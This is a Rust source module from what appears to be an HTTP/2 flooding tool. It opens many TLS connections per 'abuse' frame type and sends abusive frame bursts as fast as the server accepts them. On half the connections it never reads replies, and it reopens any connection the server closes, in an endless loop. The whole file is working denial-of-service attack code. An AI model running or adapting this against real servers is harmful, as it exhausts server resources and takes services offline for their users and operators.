//! Every frame of HTTP/2, as fast as the server takes them, on some connections for each of them.
//! Every other connection reads nothing of what the server has to say. A connection that the server
//! ends is opened again.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::frames::Abuse;
use super::{Attack, Open};

/// So many connections for each abuse.
pub(super) fn start(attack: &Arc<Attack>, count: usize) {
    for abuse in Abuse::ALL {
        for number in 0..count {
            let attack = attack.clone();
            tokio::spawn(async move { attack.forever(|| once(&attack, abuse, number % 2 == 0)).await });
        }
    }
}

async fn once(attack: &Attack, abuse: Abuse, listens: bool) -> anyhow::Result<()> {
    let permit = attack.connecting.acquire().await?;
    let stream = attack.endpoint.tls(attack.endpoint.tcp(attack.from).await?, b"h2").await?;
    drop(permit);
    let _open = Open::new(&attack.counts);
    let (mut read, mut write) = tokio::io::split(stream);
    let writes = async {
        let mut stream = 0;
        write.write_all(&abuse.opening()).await?;
        loop {
            let burst = abuse.burst(&mut stream);
            if burst.is_empty() {
                return std::io::Result::Ok(());
            }
            write.write_all(&burst).await?;
            attack.counts.bytes.fetch_add(burst.len() as u64, Ordering::Relaxed);
        }
    };
    let reads = async {
        let mut buffer = [0; 16 << 10];
        while listens && !matches!(read.read(&mut buffer).await, Ok(0) | Err(_)) {}
        if !listens {
            std::future::pending::<()>().await;
        }
    };
    tokio::select! {
        // The server has ended it.
        _ = writes => {}
        () = reads => {}
    }
    Ok(())
}
